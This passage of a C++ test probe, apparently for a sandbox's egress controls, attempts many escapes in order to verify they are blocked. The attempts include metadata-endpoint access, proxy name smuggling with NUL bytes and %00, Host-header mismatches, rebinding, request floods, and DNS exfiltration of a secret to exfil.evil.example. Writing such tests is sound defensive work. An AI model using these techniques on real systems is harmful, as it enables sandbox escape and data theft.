// egress_probe: tries, from inside a cell, every way out of mcpcell's egress
// mediation that tests/e2e/egress*.test.mjs knows of, and prints one JSON line
// per attempt on stdout:
//
//   {"attempt": NAME, "reached": BOOL, "ok": BOOL, "errno": "ECONNREFUSED",
//    "status": 403, "body": "...", "rcode": 3, "answers": ["198.18.0.1"], "detail": "..."}
//
// "reached" is true only when data carrying the test's secret came back, i.e.
// one of the test's upstream servers answered; "ok" says whether the attempt
// got as far as the network let it (connected, got a reply). The probe judges
// nothing else: the test asserts per attempt what must happen (and checks on
// the host side that its listeners heard nothing).
//
// Usage: egress_probe CONFIG_JSON
//   {"secret": "...", "host_addr": "192.0.2.2", "host_addr6": "fd00::2",
//    "upstream_port": P, "denied_port": D, "udp_port": U,
//    "allowed_name": "wiki.acmecorp.com", "denied_name": "evil.example", "denied_name_port": E,
//    "proxy_port": 3128, "rebind_names": ["localhost"], "exfil_domain": "exfil.evil.example",
//    "flood_count": 5000, "flood_name_bytes": 60000,
//    "attempts": ["tcp_host_addr", ...]}          (attempts: a subset; default all but flood_*, in order)
//
// Self-contained on purpose (no mcpcell_core), like hostile_server: it is the
// adversary and runs in a cell that has only its own directory and /usr.
// Every network wait is bounded (3 s), so a silent drop reads as "no answer".

#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <algorithm>
#include <functional>
#include <iostream>
#include <string>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

namespace {

using nlohmann::json;

constexpr int kWaitMs = 3000;

struct Config {
  std::string secret;
  std::string host_addr;
  std::string host_addr6;
  int upstream_port = 0;
  int denied_port = 0;
  int udp_port = 0;
  std::string allowed_name = "wiki.acmecorp.com";
  std::string denied_name = "evil.example";
  int denied_name_port = 0;
  int proxy_port = 3128;
  std::vector<std::string> rebind_names;
  std::string exfil_domain = "exfil.evil.example";
  int flood_count = 5000;      ///< flood_* attempts: how many
  int flood_name_bytes = 60000;
};

std::string ErrName(int e) {
  const char* name = strerrorname_np(e);
  return name != nullptr ? name : "E?";
}

/// One attempt's account, printed as a JSON line.
struct Report {
  json j = json::object();
  explicit Report(const std::string& name) {
    j["attempt"] = name;
    j["reached"] = false;
    j["ok"] = false;
  }
  void Errno(int e, const std::string& step) {
    j["errno"] = ErrName(e);
    j["detail"] = step + ": " + ErrName(e) + " (" + std::strerror(e) + ")";
  }
};

class Fd {
 public:
  explicit Fd(int fd = -1) : fd_(fd) {}
  Fd(const Fd&) = delete;
  Fd& operator=(const Fd&) = delete;
  Fd(Fd&& o) noexcept : fd_(std::exchange(o.fd_, -1)) {}
  ~Fd() {
    if (fd_ >= 0) close(fd_);
  }
  int get() const { return fd_; }

 private:
  int fd_;
};

bool WaitFd(int fd, short events, int timeout_ms) {
  pollfd p{fd, events, 0};
  int r;
  do {
    r = poll(&p, 1, timeout_ms);
  } while (r < 0 && errno == EINTR);
  return r > 0;
}

bool WriteAll(int fd, const std::string& s) {
  std::size_t off = 0;
  while (off < s.size()) {
    ssize_t n = send(fd, s.data() + off, s.size() - off, MSG_NOSIGNAL);
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && errno == EAGAIN) {
      if (!WaitFd(fd, POLLOUT, kWaitMs)) return false;
      continue;
    }
    if (n <= 0) return false;
    off += static_cast<std::size_t>(n);
  }
  return true;
}

/// Reads until EOF, `limit` bytes, `stop` found (if non-empty), or kWaitMs of silence.
/// Sets *err to the read errno (ECONNRESET...) if one ended it.
std::string ReadUntil(int fd, const std::string& stop, std::size_t limit, int* err) {
  std::string got;
  char buf[4096];
  while (got.size() < limit) {
    if (!stop.empty() && got.find(stop) != std::string::npos) break;
    if (!WaitFd(fd, POLLIN, kWaitMs)) break;
    ssize_t n = recv(fd, buf, sizeof buf, 0);
    if (n < 0 && (errno == EINTR || errno == EAGAIN)) continue;
    if (n < 0) {
      if (err != nullptr) *err = errno;
      break;
    }
    if (n == 0) break;
    got.append(buf, static_cast<std::size_t>(n));
  }
  return got;
}

/// A socket address from a numeric IPv4 or IPv6 literal.
bool MakeAddr(const std::string& ip, int port, sockaddr_storage* ss, socklen_t* len) {
  *ss = {};
  auto* v4 = reinterpret_cast<sockaddr_in*>(ss);
  if (inet_pton(AF_INET, ip.c_str(), &v4->sin_addr) == 1) {
    v4->sin_family = AF_INET;
    v4->sin_port = htons(static_cast<std::uint16_t>(port));
    *len = sizeof(sockaddr_in);
    return true;
  }
  auto* v6 = reinterpret_cast<sockaddr_in6*>(ss);
  if (inet_pton(AF_INET6, ip.c_str(), &v6->sin6_addr) == 1) {
    v6->sin6_family = AF_INET6;
    v6->sin6_port = htons(static_cast<std::uint16_t>(port));
    *len = sizeof(sockaddr_in6);
    return true;
  }
  return false;
}

/// Non-blocking connect bounded by kWaitMs. Returns the fd, or -1 with *err set
/// (ETIMEDOUT when nothing answered).
Fd ConnectTcp(const std::string& ip, int port, int* err) {
  sockaddr_storage ss{};
  socklen_t len = 0;
  if (!MakeAddr(ip, port, &ss, &len)) {
    *err = EINVAL;
    return Fd();
  }
  Fd fd(socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  if (fd.get() < 0) {
    *err = errno;
    return Fd();
  }
  if (connect(fd.get(), reinterpret_cast<sockaddr*>(&ss), len) < 0 && errno != EINPROGRESS) {
    *err = errno;
    return Fd();
  }
  if (!WaitFd(fd.get(), POLLOUT, kWaitMs)) {
    *err = ETIMEDOUT;
    return Fd();
  }
  int soerr = 0;
  socklen_t sl = sizeof soerr;
  getsockopt(fd.get(), SOL_SOCKET, SO_ERROR, &soerr, &sl);
  if (soerr != 0) {
    *err = soerr;
    return Fd();
  }
  *err = 0;
  return fd;
}

std::string HostPort(const std::string& host, int port) {
  bool v6 = host.find(':') != std::string::npos;
  return (v6 ? "[" + host + "]" : host) + ":" + std::to_string(port);
}

std::string Get(const std::string& target, const std::string& host_header) {
  return "GET " + target + " HTTP/1.1\r\nHost: " + host_header +
         "\r\nUser-Agent: egress_probe\r\nConnection: close\r\n\r\n";
}

/// The status code of an HTTP response, 0 if `resp` is not one.
int StatusOf(const std::string& resp) {
  if (resp.rfind("HTTP/1.", 0) != 0 || resp.size() < 12) return 0;
  return std::atoi(resp.c_str() + 9);
}

std::string BodyOf(const std::string& resp) {
  auto end = resp.find("\r\n\r\n");
  return end == std::string::npos ? std::string() : resp.substr(end + 4);
}

std::string Clip(const std::string& s, std::size_t n = 600) { return s.size() <= n ? s : s.substr(0, n) + "..."; }

void Judge(const Config& c, Report* r, const std::string& data) {
  if (!c.secret.empty() && data.find(c.secret) != std::string::npos) r->j["reached"] = true;
}

/// Connects straight to ip:port (whatever the cell does with it) and sends a GET.
void DirectHttp(const Config& c, Report* r, const std::string& ip, int port, const std::string& host_header) {
  int err = 0;
  Fd fd = ConnectTcp(ip, port, &err);
  if (fd.get() < 0) return r->Errno(err, "connect " + HostPort(ip, port));
  r->j["ok"] = true;
  if (!WriteAll(fd.get(), Get("/", host_header))) return r->Errno(errno, "connected to " + HostPort(ip, port) + "; send");
  int rerr = 0;
  std::string resp = ReadUntil(fd.get(), "", 65536, &rerr);
  if (rerr != 0) r->j["errno"] = ErrName(rerr);
  r->j["status"] = StatusOf(resp);
  r->j["body"] = Clip(BodyOf(resp).empty() ? resp : BodyOf(resp));
  r->j["detail"] = "connected to " + HostPort(ip, port) + "; got " + std::to_string(resp.size()) + " bytes" +
                   (rerr != 0 ? " then " + ErrName(rerr) : std::string());
  Judge(c, r, resp);
}

/// Sends `request` to the proxy port and reads the answer (the whole exchange).
std::string ProxyExchange(const Config& c, Report* r, const std::string& request) {
  int err = 0;
  Fd fd = ConnectTcp("127.0.0.1", c.proxy_port, &err);
  if (fd.get() < 0) {
    r->Errno(err, "connect to the proxy 127.0.0.1:" + std::to_string(c.proxy_port));
    return "";
  }
  r->j["ok"] = true;
  if (!WriteAll(fd.get(), request)) {
    r->Errno(errno, "send to the proxy");
    return "";
  }
  std::string resp = ReadUntil(fd.get(), "", 65536, nullptr);
  r->j["status"] = StatusOf(resp);
  r->j["body"] = Clip(BodyOf(resp));
  r->j["detail"] = "proxy answered " + std::to_string(resp.size()) + " bytes";
  Judge(c, r, resp);
  return resp;
}

/// CONNECT host:port (with an optional extra Host header), then a GET through
/// the tunnel when the proxy said 200.
void ConnectTunnel(const Config& c, Report* r, const std::string& host, int port, const std::string& host_header,
                   const std::string& inner_host) {
  int err = 0;
  Fd fd = ConnectTcp("127.0.0.1", c.proxy_port, &err);
  if (fd.get() < 0) return r->Errno(err, "connect to the proxy 127.0.0.1:" + std::to_string(c.proxy_port));
  r->j["ok"] = true;
  std::string target = HostPort(host, port);
  std::string req = "CONNECT " + target + " HTTP/1.1\r\nHost: " + (host_header.empty() ? target : host_header) +
                    "\r\n\r\n";
  if (!WriteAll(fd.get(), req)) return r->Errno(errno, "send CONNECT");
  std::string head = ReadUntil(fd.get(), "\r\n\r\n", 65536, nullptr);
  int status = StatusOf(head);
  r->j["status"] = status;
  if (status != 200) {
    // A refusal: the rest of the answer is the explanation (403 body).
    std::string rest = head + ReadUntil(fd.get(), "", 65536, nullptr);
    r->j["body"] = Clip(BodyOf(rest));
    r->j["detail"] = "CONNECT " + target + " answered " + std::to_string(status);
    Judge(c, r, rest);
    return;
  }
  std::string inner = Get("/", inner_host.empty() ? target : inner_host);
  if (!WriteAll(fd.get(), inner)) return r->Errno(errno, "send through the tunnel");
  std::string resp = BodyOf(head) + ReadUntil(fd.get(), "", 65536, nullptr);
  r->j["tunnel_status"] = StatusOf(resp);
  r->j["body"] = Clip(BodyOf(resp));
  r->j["detail"] = "CONNECT " + target + " answered 200; the tunnel returned " + std::to_string(resp.size()) + " bytes";
  Judge(c, r, resp);
}

/// SOCKS5 (RFC 1928) CONNECT to a domain name (atyp 3) or an IPv4 literal (atyp 1).
void Socks5(const Config& c, Report* r, const std::string& host, int port, bool ipv4_literal) {
  int err = 0;
  Fd fd = ConnectTcp("127.0.0.1", c.proxy_port, &err);
  if (fd.get() < 0) return r->Errno(err, "connect to the proxy 127.0.0.1:" + std::to_string(c.proxy_port));
  r->j["ok"] = true;
  if (!WriteAll(fd.get(), std::string("\x05\x01\x00", 3))) return r->Errno(errno, "send SOCKS5 greeting");
  std::string greet = ReadUntil(fd.get(), "", 2, nullptr);
  if (greet.size() < 2 || greet[0] != 5 || greet[1] != 0) {
    r->j["detail"] = "SOCKS5 greeting refused (" + std::to_string(greet.size()) + " bytes)";
    return;
  }
  std::string req("\x05\x01\x00", 3);
  if (ipv4_literal) {
    in_addr a{};
    inet_pton(AF_INET, host.c_str(), &a);
    req += '\x01';
    req.append(reinterpret_cast<const char*>(&a), 4);
  } else {
    req += '\x03';
    req += static_cast<char>(host.size());
    req += host;
  }
  req += static_cast<char>((port >> 8) & 0xff);
  req += static_cast<char>(port & 0xff);
  if (!WriteAll(fd.get(), req)) return r->Errno(errno, "send SOCKS5 request");
  std::string rep = ReadUntil(fd.get(), "", 10, nullptr);
  if (rep.size() < 2) {
    r->j["detail"] = "SOCKS5: no reply to the request (" + std::to_string(rep.size()) + " bytes)";
    return;
  }
  int code = static_cast<unsigned char>(rep[1]);
  r->j["socks_reply"] = code;
  r->j["detail"] = "SOCKS5 reply " + std::to_string(code);
  if (code != 0) return;
  // Skip the rest of the reply (bound address) before talking through it.
  std::size_t want = 10;
  if (rep.size() >= 4 && rep[3] == '\x04') want = 22;
  if (rep.size() < want) rep += ReadUntil(fd.get(), "", want - rep.size(), nullptr);
  if (!WriteAll(fd.get(), Get("/", HostPort(host, port)))) return r->Errno(errno, "send through SOCKS5");
  std::string resp = rep.substr(std::min(want, rep.size())) + ReadUntil(fd.get(), "", 65536, nullptr);
  r->j["tunnel_status"] = StatusOf(resp);
  r->j["body"] = Clip(BodyOf(resp));
  Judge(c, r, resp);
}

// ---------------------------------------------------------------------------
// DNS, by hand (RFC 1035 §4): the probe must not depend on the cell's resolver
// configuration when it talks to an "outside" resolver.

/// A query whose question has exactly `labels` (any bytes, a '.' inside one
/// included: that is what some attempts are about).
std::string DnsQueryLabels(std::uint16_t id, const std::vector<std::string>& labels, std::uint16_t qtype) {
  std::string q;
  q += static_cast<char>(id >> 8);
  q += static_cast<char>(id & 0xff);
  q += std::string("\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 10);  // RD; QDCOUNT 1
  for (const auto& label : labels) {
    q += static_cast<char>(label.size());
    q += label;
  }
  q += '\0';
  q += static_cast<char>(qtype >> 8);
  q += static_cast<char>(qtype & 0xff);
  q += std::string("\x00\x01", 2);  // class IN
  return q;
}

std::string DnsQuery(std::uint16_t id, const std::string& name, std::uint16_t qtype) {
  std::vector<std::string> labels;
  std::size_t start = 0;
  while (start <= name.size()) {
    std::size_t dot = name.find('.', start);
    if (dot == std::string::npos) dot = name.size();
    if (dot > start) labels.push_back(name.substr(start, dot - start));
    start = dot + 1;
  }
  return DnsQueryLabels(id, labels, qtype);
}

/// Skips a (possibly compressed) name at `off`; false if malformed.
bool SkipName(const std::string& m, std::size_t* off) {
  while (*off < m.size()) {
    auto len = static_cast<unsigned char>(m[*off]);
    if (len == 0) {
      *off += 1;
      return true;
    }
    if ((len & 0xc0) == 0xc0) {
      *off += 2;
      return *off <= m.size();
    }
    *off += 1 + len;
  }
  return false;
}

std::uint16_t U16(const std::string& m, std::size_t off) {
  return static_cast<std::uint16_t>((static_cast<unsigned char>(m[off]) << 8) | static_cast<unsigned char>(m[off + 1]));
}

/// Fills rcode and answers (A as dotted quads, AAAA as text, others as "type N").
void ParseDnsReply(const std::string& m, Report* r) {
  if (m.size() < 12) {
    r->j["detail"] = "DNS reply too short (" + std::to_string(m.size()) + " bytes)";
    return;
  }
  r->j["rcode"] = static_cast<unsigned char>(m[3]) & 0x0f;
  std::uint16_t qd = U16(m, 4);
  std::uint16_t an = U16(m, 6);
  std::size_t off = 12;
  for (int i = 0; i < qd; ++i) {
    if (!SkipName(m, &off)) return;
    off += 4;
  }
  json answers = json::array();
  for (int i = 0; i < an && off < m.size(); ++i) {
    if (!SkipName(m, &off) || off + 10 > m.size()) break;
    std::uint16_t type = U16(m, off);
    std::uint16_t rdlen = U16(m, off + 8);
    off += 10;
    if (off + rdlen > m.size()) break;
    char text[INET6_ADDRSTRLEN] = {};
    if (type == 1 && rdlen == 4) {
      inet_ntop(AF_INET, m.data() + off, text, sizeof text);
      answers.push_back(text);
    } else if (type == 28 && rdlen == 16) {
      inet_ntop(AF_INET6, m.data() + off, text, sizeof text);
      answers.push_back(text);
    } else {
      answers.push_back("type " + std::to_string(type));
    }
    off += rdlen;
  }
  r->j["answers"] = answers;
}

/// One UDP query `q` to server:53 (asking about `name`); fills rcode/answers or errno.
void UdpDnsRaw(const Config& c, Report* r, const std::string& server, const std::string& name, const std::string& q) {
  sockaddr_storage ss{};
  socklen_t len = 0;
  MakeAddr(server, 53, &ss, &len);
  Fd fd(socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  if (fd.get() < 0) return r->Errno(errno, "socket");
  if (sendto(fd.get(), q.data(), q.size(), 0, reinterpret_cast<sockaddr*>(&ss), len) < 0) {
    return r->Errno(errno, "sendto " + server + ":53");
  }
  if (!WaitFd(fd.get(), POLLIN, kWaitMs)) {
    r->j["detail"] = "no DNS reply from " + server + ":53 in 3 s";
    return;
  }
  char buf[4096];
  ssize_t n = recv(fd.get(), buf, sizeof buf, 0);
  if (n < 0) return r->Errno(errno, "recv from " + server + ":53");
  r->j["ok"] = true;
  std::string m(buf, static_cast<std::size_t>(n));
  ParseDnsReply(m, r);
  r->j["detail"] = "DNS reply from " + server + ":53 for " + name;
  Judge(c, r, m);
}

void UdpDns(const Config& c, Report* r, const std::string& server, const std::string& name, std::uint16_t qtype) {
  UdpDnsRaw(c, r, server, name, DnsQuery(0x4d43, name, qtype));
}

/// The allowed name's parent domain with its dot: "wiki.acmecorp.com" → ".acmecorp.com",
/// what a ".domain" rule matches and a smuggled name ends in.
std::string AllowedSuffix(const Config& c) {
  auto dot = c.allowed_name.find('.');
  return dot == std::string::npos ? "." + c.allowed_name : c.allowed_name.substr(dot);
}

/// getaddrinfo through the cell's own resolver configuration.
void Resolve(Report* r, const std::string& name) {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  int rc = getaddrinfo(name.c_str(), "80", &hints, &res);
  if (rc != 0) {
    r->j["gai_error"] = gai_strerror(rc);
    r->j["detail"] = "getaddrinfo " + name + ": " + gai_strerror(rc);
    return;
  }
  r->j["ok"] = true;
  json answers = json::array();
  for (addrinfo* p = res; p != nullptr; p = p->ai_next) {
    char text[INET6_ADDRSTRLEN] = {};
    if (p->ai_family == AF_INET) {
      inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(p->ai_addr)->sin_addr, text, sizeof text);
    } else if (p->ai_family == AF_INET6) {
      inet_ntop(AF_INET6, &reinterpret_cast<sockaddr_in6*>(p->ai_addr)->sin6_addr, text, sizeof text);
    }
    answers.push_back(text);
  }
  freeaddrinfo(res);
  r->j["answers"] = answers;
  r->j["detail"] = "getaddrinfo " + name + " gave " + answers.dump();
}

/// The first IPv4 answer of getaddrinfo, "" if none.
std::string ResolveV4(const std::string& name) {
  addrinfo hints{};
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  if (getaddrinfo(name.c_str(), "80", &hints, &res) != 0 || res == nullptr) return "";
  char text[INET_ADDRSTRLEN] = {};
  inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(res->ai_addr)->sin_addr, text, sizeof text);
  freeaddrinfo(res);
  return text;
}

// ---------------------------------------------------------------------------
// The attempts.

using Attempt = std::function<void(const Config&, Report*)>;

std::vector<std::pair<std::string, Attempt>> Attempts(const Config& cfg) {
  std::vector<std::pair<std::string, Attempt>> all = {
      // Controls: the legitimate ways out work (so a refusal below means something).
      {"control_connect_allowed",
       [](const Config& c, Report* r) { ConnectTunnel(c, r, c.allowed_name, c.upstream_port, "", ""); }},
      {"control_socks5_allowed",
       [](const Config& c, Report* r) { Socks5(c, r, c.allowed_name, c.upstream_port, false); }},
      {"control_resolve_allowed", [](const Config& c, Report* r) { Resolve(r, c.allowed_name); }},
      {"control_redirect_allowed",
       [](const Config& c, Report* r) {
         std::string ip = ResolveV4(c.allowed_name);
         if (ip.empty()) {
           r->j["detail"] = "getaddrinfo " + c.allowed_name + " found no IPv4 address";
           return;
         }
         r->j["address"] = ip;
         DirectHttp(c, r, ip, c.upstream_port, HostPort(c.allowed_name, c.upstream_port));
       }},
      // Direct connections that ignore the proxy.
      {"tcp_host_addr",
       [](const Config& c, Report* r) {
         if (c.host_addr.empty()) {
           r->j["detail"] = "skipped: no host_addr given";
           return;
         }
         DirectHttp(c, r, c.host_addr, c.upstream_port, HostPort(c.host_addr, c.upstream_port));
       }},
      {"tcp_host_loopback",
       [](const Config& c, Report* r) { DirectHttp(c, r, "127.0.0.1", c.upstream_port, "127.0.0.1"); }},
      {"tcp_metadata", [](const Config& c, Report* r) { DirectHttp(c, r, "169.254.169.254", 80, "169.254.169.254"); }},
      {"tcp_private_10", [](const Config& c, Report* r) { DirectHttp(c, r, "10.0.0.1", c.upstream_port, "10.0.0.1"); }},
      {"tcp_synthetic_unmapped",
       [](const Config& c, Report* r) {
         DirectHttp(c, r, "198.19.255.254", c.upstream_port, HostPort(c.allowed_name, c.upstream_port));
       }},
      {"tcp6_documentation", [](const Config& c, Report* r) { DirectHttp(c, r, "2001:db8::1", 80, "[2001:db8::1]"); }},
      {"tcp6_host_loopback", [](const Config& c, Report* r) { DirectHttp(c, r, "::1", c.upstream_port, "[::1]"); }},
      {"tcp6_host_addr",
       [](const Config& c, Report* r) {
         if (c.host_addr6.empty()) {
           r->j["detail"] = "skipped: no host_addr6 given";
           return;
         }
         DirectHttp(c, r, c.host_addr6, c.upstream_port, HostPort(c.host_addr6, c.upstream_port));
       }},
      {"tcp6_metadata", [](const Config& c, Report* r) { DirectHttp(c, r, "fd00:ec2::254", 80, "[fd00:ec2::254]"); }},
      // The redirect path told a different Host than the name the address stands for.
      {"redirect_host_header_mismatch",
       [](const Config& c, Report* r) {
         std::string ip = ResolveV4(c.allowed_name);
         if (ip.empty()) {
           r->j["detail"] = "getaddrinfo " + c.allowed_name + " found no IPv4 address";
           return;
         }
         r->j["address"] = ip;
         DirectHttp(c, r, ip, c.upstream_port, HostPort(c.denied_name, c.denied_name_port));
       }},
      // UDP.
      {"udp_host",
       [](const Config& c, Report* r) {
         if (c.host_addr.empty() || c.udp_port == 0) {
           r->j["detail"] = "skipped: no host_addr/udp_port given";
           return;
         }
         sockaddr_storage ss{};
         socklen_t len = 0;
         MakeAddr(c.host_addr, c.udp_port, &ss, &len);
         Fd fd(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
         if (fd.get() < 0) return r->Errno(errno, "socket");
         std::string msg = "egress_probe udp";
         if (sendto(fd.get(), msg.data(), msg.size(), 0, reinterpret_cast<sockaddr*>(&ss), len) < 0) {
           return r->Errno(errno, "sendto " + HostPort(c.host_addr, c.udp_port));
         }
         if (!WaitFd(fd.get(), POLLIN, kWaitMs)) {
           r->j["detail"] = "sent; no reply in 3 s";
           return;
         }
         char buf[512];
         ssize_t n = recv(fd.get(), buf, sizeof buf, 0);
         if (n < 0) return r->Errno(errno, "sent; recv");
         r->j["ok"] = true;
         r->j["detail"] = "reply of " + std::to_string(n) + " bytes";
         Judge(c, r, std::string(buf, static_cast<std::size_t>(n)));
       }},
      // DNS to an outside resolver, and exfiltration through names.
      {"dns_outside_denied", [](const Config& c, Report* r) { UdpDns(c, r, "8.8.8.8", c.denied_name, 1); }},
      {"dns_outside_allowed", [](const Config& c, Report* r) { UdpDns(c, r, "8.8.8.8", c.allowed_name, 1); }},
      {"dns_outside_allowed_aaaa", [](const Config& c, Report* r) { UdpDns(c, r, "8.8.8.8", c.allowed_name, 28); }},
      {"dns_outside_txt", [](const Config& c, Report* r) { UdpDns(c, r, "8.8.8.8", c.allowed_name, 16); }},
      {"dns_tcp_outside",
       [](const Config& c, Report* r) {
         int err = 0;
         Fd fd = ConnectTcp("8.8.8.8", 53, &err);
         if (fd.get() < 0) return r->Errno(err, "connect 8.8.8.8:53");
         r->j["ok"] = true;
         std::string q = DnsQuery(0x4d44, c.denied_name, 1);
         std::string framed;
         framed += static_cast<char>(q.size() >> 8);
         framed += static_cast<char>(q.size() & 0xff);
         framed += q;
         if (!WriteAll(fd.get(), framed)) return r->Errno(errno, "send over TCP to 8.8.8.8:53");
         int rerr = 0;
         std::string resp = ReadUntil(fd.get(), "", 4096, &rerr);
         r->j["detail"] = "TCP 8.8.8.8:53 answered " + std::to_string(resp.size()) + " bytes" +
                          (rerr != 0 ? " then " + ErrName(rerr) : std::string());
         if (resp.size() > 2) ParseDnsReply(resp.substr(2), r);
         Judge(c, r, resp);
       }},
      {"dns_exfil",
       [](const Config& c, Report* r) {
         // The secret, hex-encoded, in 60-character labels: what a server would
         // do to smuggle a file out through a resolver that forwards queries.
         static const char* hex = "0123456789abcdef";
         std::string data;
         std::string payload = c.secret + "|";
         for (int i = 0; i < 4; ++i) payload += "exfiltrated-file-content-";
         for (unsigned char ch : payload) {
           data += hex[ch >> 4];
           data += hex[ch & 15];
         }
         json names = json::array();
         json rcodes = json::array();
         int answered = 0;
         for (std::size_t i = 0, n = 0; i < data.size(); i += 120, ++n) {
           std::string chunk = data.substr(i, 120);
           std::string name = chunk.substr(0, 60) + (chunk.size() > 60 ? "." + chunk.substr(60) : "") + ".c" +
                              std::to_string(n) + "." + c.exfil_domain;
           Report one("dns_exfil_part");
           UdpDns(c, &one, "8.8.8.8", name, 1);
           names.push_back(name);
           rcodes.push_back(one.j.value("rcode", -1));
           if (one.j.value("ok", false)) ++answered;
           if (one.j.value("reached", false)) r->j["reached"] = true;
         }
         r->j["ok"] = answered > 0;
         r->j["names"] = names;
         r->j["rcodes"] = rcodes;
         r->j["detail"] = std::to_string(names.size()) + " queries, " + std::to_string(answered) + " answered";
       }},
      {"resolve_denied", [](const Config& c, Report* r) { Resolve(r, c.denied_name); }},
      // The proxy itself, asked for what the rules deny.
      {"connect_denied_port",
       [](const Config& c, Report* r) { ConnectTunnel(c, r, c.allowed_name, c.denied_port, "", ""); }},
      {"connect_denied_host",
       [](const Config& c, Report* r) { ConnectTunnel(c, r, c.denied_name, c.denied_name_port, "", ""); }},
      {"connect_ip_literal",
       [](const Config& c, Report* r) { ConnectTunnel(c, r, "127.0.0.1", c.upstream_port, "", ""); }},
      {"connect_host_header_mismatch",
       [](const Config& c, Report* r) {
         std::string evil = HostPort(c.denied_name, c.denied_name_port);
         ConnectTunnel(c, r, c.allowed_name, c.upstream_port, evil, evil);
       }},
      {"http_forward_denied",
       [](const Config& c, Report* r) {
         std::string target = HostPort(c.denied_name, c.denied_name_port);
         ProxyExchange(c, r, Get("http://" + target + "/", target));
       }},
      {"http_host_mismatch",
       [](const Config& c, Report* r) {
         ProxyExchange(c, r, Get("http://" + HostPort(c.allowed_name, c.upstream_port) + "/",
                                 HostPort(c.denied_name, c.denied_name_port)));
       }},
      {"http_origin_form",
       [](const Config& c, Report* r) {
         ProxyExchange(c, r, Get("/", HostPort(c.denied_name, c.denied_name_port)));
       }},
      {"socks5_denied_host",
       [](const Config& c, Report* r) { Socks5(c, r, c.denied_name, c.denied_name_port, false); }},
      {"socks5_denied_port", [](const Config& c, Report* r) { Socks5(c, r, c.allowed_name, c.denied_port, false); }},
      {"socks5_ip_literal", [](const Config& c, Report* r) { Socks5(c, r, "127.0.0.1", c.upstream_port, true); }},
      // Names that are bytes (issue 10 item 1): each ends in the allowed
      // domain, so a rule that saw the raw bytes would allow it, while the
      // resolver would stop at the NUL (or libc read a number) and go elsewhere.
      {"socks5_nul_name",
       [](const Config& c, Report* r) {
         Socks5(c, r, c.denied_name + std::string(1, '\0') + AllowedSuffix(c), c.denied_name_port, false);
       }},
      {"socks5_nul_ip",
       [](const Config& c, Report* r) {
         Socks5(c, r, "203.0.113.2" + std::string(1, '\0') + AllowedSuffix(c), c.upstream_port, false);
       }},
      {"socks5_nul_loopback",
       [](const Config& c, Report* r) {
         Socks5(c, r, "127.0.0.1" + std::string(1, '\0') + AllowedSuffix(c), c.upstream_port, false);
       }},
      {"socks5_pct00_name",
       [](const Config& c, Report* r) { Socks5(c, r, c.denied_name + "%00" + AllowedSuffix(c), c.denied_name_port, false); }},
      {"socks5_numeric_loopback",
       [](const Config& c, Report* r) { Socks5(c, r, "2130706433", c.upstream_port, false); }},
      {"connect_pct00_name",
       [](const Config& c, Report* r) {
         ConnectTunnel(c, r, c.denied_name + "%00" + AllowedSuffix(c), c.denied_name_port, "", "");
       }},
      {"connect_userinfo",
       [](const Config& c, Report* r) {
         ConnectTunnel(c, r, c.denied_name + "@" + c.allowed_name, c.denied_name_port, "", "");
       }},
      {"http_pct00_name",
       [](const Config& c, Report* r) {
         std::string target = HostPort(c.denied_name + "%00" + AllowedSuffix(c), c.denied_name_port);
         ProxyExchange(c, r, Get("http://" + target + "/", target));
       }},
      {"dns_nul_label",
       [](const Config& c, Report* r) {
         std::string name = "evil" + std::string(1, '\0') + "x" + AllowedSuffix(c);
         UdpDns(c, r, "8.8.8.8", name, 1);
       }},
      {"dns_dot_in_label",
       [](const Config& c, Report* r) {
         // One label "evil.example" followed by the allowed domain's labels.
         std::vector<std::string> labels{c.denied_name};
         std::string suffix = AllowedSuffix(c).substr(1);
         for (std::size_t at = 0; at <= suffix.size();) {
           std::size_t dot = std::min(suffix.find('.', at), suffix.size());
           labels.push_back(suffix.substr(at, dot - at));
           at = dot + 1;
         }
         UdpDnsRaw(c, r, "8.8.8.8", c.denied_name + "(one label)" + AllowedSuffix(c), DnsQueryLabels(0x4d45, labels, 1));
       }},
      // Audit floods (issue 10 item 8): the same denied SOCKS5 request many
      // times, and CONNECTs for distinct names of flood_name_bytes each. The
      // probe only counts what it sent; the test reads the audit log.
      {"flood_socks5_denied",
       [](const Config& c, Report* r) {
         int answered = 0;
         for (int i = 0; i < c.flood_count; ++i) {
           Report one("flood_part");
           Socks5(c, &one, c.denied_name, c.denied_name_port, false);
           if (one.j.value("socks_reply", -1) == 2) ++answered;
           if (one.j.value("reached", false)) r->j["reached"] = true;
         }
         r->j["ok"] = true;
         r->j["sent"] = c.flood_count;
         r->j["refused"] = answered;
       }},
      {"flood_connect_long_names",
       [](const Config& c, Report* r) {
         int refused = 0;
         std::uint64_t bytes = 0;
         for (int i = 0; i < c.flood_count; ++i) {
           std::string name = std::to_string(i) + std::string(static_cast<std::size_t>(c.flood_name_bytes), 'a');
           Report one("flood_part");
           ConnectTunnel(c, &one, name, 443, "x", "");
           if (one.j.value("status", 0) == 400) ++refused;
           if (one.j.value("reached", false)) r->j["reached"] = true;
           bytes += name.size();
         }
         r->j["ok"] = true;
         r->j["sent"] = c.flood_count;
         r->j["refused"] = refused;
         r->j["name_bytes"] = bytes;
       }},
  };
  // An allowed name whose real address is internal (DNS rebinding): through
  // CONNECT, SOCKS5 and plain HTTP.
  for (const auto& name : cfg.rebind_names) {
    all.push_back({"rebind_connect_" + name,
                   [name](const Config& c, Report* r) { ConnectTunnel(c, r, name, c.upstream_port, "", ""); }});
    all.push_back({"rebind_socks5_" + name,
                   [name](const Config& c, Report* r) { Socks5(c, r, name, c.upstream_port, false); }});
    all.push_back({"rebind_http_" + name, [name](const Config& c, Report* r) {
